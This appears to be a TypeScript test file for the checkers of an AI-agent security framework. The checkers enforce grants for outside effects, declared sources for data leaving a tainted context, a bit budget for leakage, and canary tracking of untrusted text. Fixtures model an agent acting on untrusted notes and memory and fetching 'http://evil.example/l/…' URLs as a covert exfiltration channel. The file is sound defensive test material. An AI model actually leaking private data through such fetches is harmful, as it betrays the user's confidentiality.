/** The checkers on runs that are written by hand: what each law sees, and what it lets pass. */
import { clean, type Label } from "@pincer/sdk";
import { describe, expect, it } from "vitest";
import { lawOfBits, lawOfCanaries, lawOfGrants, lawOfLeaving } from "./checkers.ts";
import { createMarks } from "./marks.ts";
import type { LawGrant, OutsideEvent } from "./port.ts";
import type { LawTurn } from "./program.ts";
import type { PlayedCall, Run } from "./run-program.ts";
import { firstDifference } from "./same-outside.ts";

const guarded: Label = { untrusted: true, sources: ["file:notes.md", "memory"] };
const toBob: LawGrant = {
  tool: "message",
  recipients: ["pigeon:502"],
  hosts: [],
  args: {},
  sources: [],
  count: 1,
};

type Act = Extract<OutsideEvent, { type: "act" }>;
const act = (over: Partial<Act> = {}): Act => ({
  type: "act",
  turn: 0,
  call: 0,
  tool: "message",
  recipients: ["pigeon:502"],
  arguments: { to: "pigeon:502", text: "hello" },
  ...over,
});

const called = (over: Partial<PlayedCall> = {}): PlayedCall => ({
  tool: "message",
  arguments: { to: "pigeon:502", text: "hello" },
  label: clean,
  addresses: 0,
  stands: false,
  isTyped: false,
  ran: true,
  isApproved: false,
  heard: clean,
  ...over,
});

function runOf(
  parts: {
    turn?: Partial<LawTurn>;
    calls?: PlayedCall[];
    untainted?: string[];
  } & Partial<Omit<Run, "turns">>,
): Run {
  const { turn, calls = [called()], untainted = [], ...rest } = parts;
  const played: LawTurn = {
    by: "owner",
    session: "main",
    agent: "main",
    day: 0,
    words: [],
    grants: [],
    steps: [],
    ends: "answer",
    answer: [],
    ...turn,
  };
  const turns = [{ turn: played, calls, last: calls.at(-1)?.label ?? clean, untainted }];
  return { turns, inputs: [], outside: [], owner: [], marks: createMarks(), ...rest };
}

describe("the law of grants", () => {
  const wrong = (grants: LawGrant[], outside: Act[], calls?: PlayedCall[], by: "owner" | "peer" = "owner") =>
    lawOfGrants(runOf({ turn: { grants, by }, outside, ...(calls && { calls }) })).length > 0;

  it("wants one grant that covers an effect whole", () => {
    expect(wrong([], [act()])).toBe(true);
    expect(wrong([toBob], [act()])).toBe(false);
    expect(wrong([toBob], [act({ recipients: ["pigeon:503"] })])).toBe(true);
    expect(wrong([toBob], [act({ recipients: ["pigeon:502", "pigeon:503"] })])).toBe(true);
    expect(wrong([{ ...toBob, tool: "mail_send" }], [act()])).toBe(true);
  });

  it("takes no two effects for one, however the grants are shared out", () => {
    const wide = { ...toBob, recipients: ["pigeon:502", "pigeon:503"] };
    const carla = act({
      call: 1,
      recipients: ["pigeon:503"],
      arguments: { to: "pigeon:503", text: "hello" },
    });
    expect(wrong([toBob], [act(), act({ call: 1 })])).toBe(true);
    expect(wrong([wide, toBob], [act(), carla], [called(), called()])).toBe(false);
    expect(wrong([wide, toBob], [carla, act(), act({ call: 2 })])).toBe(true);
  });

  it("lets values of an untainted context pass, and wants them granted in a tainted one", () => {
    const lamp = act({
      tool: "lamp_set",
      recipients: ["undeclared"],
      arguments: { lamp: "hall", state: "on" },
    });
    const grant = { ...toBob, tool: "lamp_set", recipients: [], args: { lamp: "kitchen", state: "on" } };
    expect(wrong([grant], [lamp], [called({ tool: "lamp_set" })])).toBe(false);
    expect(wrong([grant], [lamp], [called({ tool: "lamp_set", label: guarded })])).toBe(true);
    const granted = { ...grant, args: { lamp: "hall", state: "on" } };
    expect(wrong([granted], [lamp], [called({ tool: "lamp_set", label: guarded })])).toBe(false);
  });

  it("takes a yes for just what the card showed, and none in somebody else's turn", () => {
    const yes = called({ isApproved: true });
    expect(wrong([], [act()], [yes])).toBe(false);
    expect(wrong([], [act({ arguments: { to: "pigeon:502", text: "other words" } })], [yes])).toBe(true);
    expect(wrong([toBob], [act()], [called()], "peer")).toBe(true);
  });
});

describe("the law of leaving", () => {
  const wrong = (grant: Partial<LawGrant>, over: Partial<Run> = {}, label = guarded) =>
    lawOfLeaving(
      runOf({
        turn: { grants: [{ ...toBob, ...grant }] },
        calls: [called({ label })],
        outside: [act()],
        ...over,
      }),
    ).length > 0;

  it("wants every private source of a tainted context named", () => {
    expect(wrong({})).toBe(true);
    expect(wrong({ sources: ["memory"] })).toBe(true);
    expect(wrong({ sources: ["memory", "file:notes.md"] })).toBe(false);
    expect(wrong({ sources: ["memory", "workdir"] })).toBe(false);
    expect(wrong({}, {}, { untrusted: false, sources: ["memory"] })).toBe(false);
    expect(wrong({}, {}, { untrusted: true, sources: [] })).toBe(false);
  });

  it("lets pass what the owner was shown before, and not what came later", () => {
    const shown = (call: number, text: string) => ({ owner: [{ turn: 0, call, text }] });
    expect(wrong({}, shown(0, "hello"))).toBe(false);
    expect(wrong({}, shown(0, "hello there"))).toBe(true);
    expect(wrong({}, shown(1, "hello"))).toBe(true);
  });

  it("lets a writer's words pass that were made of what the grant names, and of nothing else", () => {
    const words = act({ arguments: { to: "pigeon:502", text: "worded anew" } });
    const writer = (label: Label) => ({
      outside: [words],
      inputs: [{ kind: "writer" as const, turn: 0, call: 0, label }],
    });
    expect(wrong({}, writer({ untrusted: true, sources: [] }))).toBe(false);
    expect(wrong({}, writer({ untrusted: true, sources: ["file:notes.md"] }))).toBe(true);
    expect(
      wrong({ sources: ["file:notes.md"] }, writer({ untrusted: true, sources: ["file:notes.md"] })),
    ).toBe(false);
    // It was asked, but what left is the model's own.
    expect(wrong({}, { ...writer(clean), outside: [act()] })).toBe(true);
  });

  it("counts an answer that others read", () => {
    const answer = act({
      tool: "answer",
      call: 1,
      recipients: ["pigeon:-100"],
      arguments: { text: "hello" },
    });
    expect(wrong({}, { outside: [answer] })).toBe(true);
    const grant = { tool: "answer", recipients: ["pigeon:-100"], sources: ["memory", "file:notes.md"] };
    expect(wrong(grant, { outside: [answer] })).toBe(false);
  });
});

describe("the law of bits", () => {
  const reads = (count: number, over: Partial<PlayedCall> = {}) =>
    lawOfBits(
      runOf({
        calls: Array.from({ length: count }, () =>
          called({
            tool: "web_fetch",
            arguments: { url: "http://evil.example/l/1" },
            label: guarded,
            addresses: 16,
            stands: true,
            ...over,
          }),
        ),
        outside: Array.from({ length: count }, (_, call) => ({
          type: "read" as const,
          by: "turn" as const,
          turn: 0,
          call,
          url: "http://evil.example/l/1",
        })),
      }),
    );

  it("reckons which of the addresses was read, and when", () => {
    // log2(16) + 3 = 7 bits each: nine are 63.
    expect(reads(9)).toEqual([]);
    expect(reads(10)).toEqual(["main on day 0: 70.0 bits"]);
    expect(reads(16, { addresses: 1 })).toEqual([]);
    expect(reads(17, { addresses: 1 })).toHaveLength(1);
  });

  it("takes an address that stands nowhere for composed, and lets a typed one pass once", () => {
    expect(reads(1, { stands: false })).toHaveLength(1);
    expect(reads(1, { stands: false, isTyped: true })).toEqual([]);
    expect(reads(2, { stands: false, isTyped: true })).toHaveLength(1);
    expect(reads(1, { stands: false, isApproved: true })).toEqual([]);
    expect(reads(40, { label: clean })).toEqual([]);
    expect(reads(40, { label: { untrusted: true, sources: [] }, stands: false })).toEqual([]);
  });

  it("counts a scout by the moment that it is sent at", () => {
    const scouts = (count: number) =>
      lawOfBits(
        runOf({ calls: Array.from({ length: count }, () => called({ tool: "scout", label: guarded })) }),
      );
    expect(scouts(16)).toEqual([]);
    expect(scouts(17)).toHaveLength(1);
  });
});

describe("the law of canaries", () => {
  it("sees a stranger's text in what counts as untainted, in the planner's input and in a scout's", () => {
    expect(lawOfCanaries(runOf({ untainted: ["Tea 12 euros zm11z"] }))).toHaveLength(1);
    expect(lawOfCanaries(runOf({ untainted: ["likes tea zm5z"] }))).toEqual([]);
    const asked = (
      kind: "planner" | "scout" | "writer",
      label: Label,
      context = clean,
      isTainted = false,
    ) => {
      const inputs = [{ kind, turn: 0, call: 0, label, isTainted }];
      return lawOfCanaries(runOf({ inputs, calls: [called({ label: context })] })).length;
    };
    expect(asked("planner", { untrusted: true, sources: [] })).toBe(1);
    expect(asked("planner", { untrusted: false, sources: ["memory"] })).toBe(0);
    const foreign = { untrusted: true, sources: [] };
    expect(asked("scout", { untrusted: false, sources: ["memory"] })).toBe(0);
    expect(asked("scout", { untrusted: false, sources: ["memory"] }, foreign)).toBe(1);
    expect(asked("scout", foreign, foreign)).toBe(1);
    expect(asked("scout", foreign, foreign, true)).toBe(0);
    expect(asked("writer", guarded)).toBe(0);
  });

  it("follows a stranger's words through what a model wrote of them", () => {
    const marks = createMarks();
    const written = marks.marked("twelve", { untrusted: true, sources: [] });
    expect(lawOfCanaries(runOf({ untainted: [written], marks }))).toHaveLength(1);
    expect(marks.marked("twelve", clean)).toBe("twelve");
  });
});

describe("two runs", () => {
  const seen = (...outside: OutsideEvent[]) => runOf({ outside });
  const read: OutsideEvent = { type: "read", by: "turn", turn: 0, call: 0, url: "http://evil.example/l/1" };

  it("are told apart by the content of an effect, and not by choices that are counted or granted", () => {
    const other = act({ arguments: { to: "pigeon:502", text: "bye" } });
    expect(firstDifference(seen(act()), seen(act()))).toBeUndefined();
    expect(firstDifference(seen(act()), seen(other))).toMatch(/can tell/);
    expect(firstDifference(seen(act()), seen())).toBeUndefined();
    expect(firstDifference(seen(read), seen({ ...read, url: "http://evil.example/l/2" }))).toBeUndefined();
    expect(firstDifference(seen(read, act()), seen(read, other))).toMatch(/can tell/);
  });

  it("may differ in what the owner had read in full", () => {
    const told = (text: string) => ({ owner: [{ turn: 0, call: 0, text }] });
    const one = { ...seen(act()), ...told("hello") };
    const two = { ...seen(act({ arguments: { to: "pigeon:502", text: "bye" } })), ...told("bye") };
    expect(firstDifference(one, two)).toBeUndefined();
  });
});
